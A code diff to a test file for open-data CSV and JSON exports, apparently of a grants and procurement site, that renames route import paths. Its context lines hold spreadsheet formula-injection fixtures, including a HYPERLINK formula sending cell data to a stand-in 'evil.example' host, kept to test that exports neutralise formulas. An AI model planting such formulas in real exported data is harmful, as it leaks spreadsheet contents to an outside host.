@@ -103,7 +103,7 @@ describe("open data exports", () => {
       data: { title: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', summary: "+1+1" },
     });
     await prisma.organization.update({ where: { id: winner.id }, data: { nameRu: "@SUM(1,2)" } });
-    const { loader } = await import("~/routes/open-data.360giving[.]csv");
+    const { loader } = await import("~/routes/_open-data.open-data.360giving[.]csv");
     const response = await loader(get("/open-data/360giving.csv"));
     expect(response.headers.get("Content-Type")).toContain("text/csv");
     const bytes = Buffer.from(await response.arrayBuffer());
@@ -128,9 +128,9 @@ describe("open data exports", () => {
       data: { ocidPrefix: "ocds-kgosh1", nameRu: "Мэрия города Ош" },
     });
     forgetPublisher();
-    const { loader: ocds } = await import("~/routes/open-data.ocds[.]json");
-    const { loader: giving } = await import("~/routes/open-data.360giving[.]json");
-    const { loader: givingCsv } = await import("~/routes/open-data.360giving[.]csv");
+    const { loader: ocds } = await import("~/routes/_open-data.open-data.ocds[.]json");
+    const { loader: giving } = await import("~/routes/_open-data.open-data.360giving[.]json");
+    const { loader: givingCsv } = await import("~/routes/_open-data.open-data.360giving[.]csv");
 
     const all = await (await ocds(get("/open-data/ocds.json"))).json();
     const ocidOf = (reference: string) => all.releases.find((r: { tender: { id: string } }) => r.tender.id === reference)?.ocid;
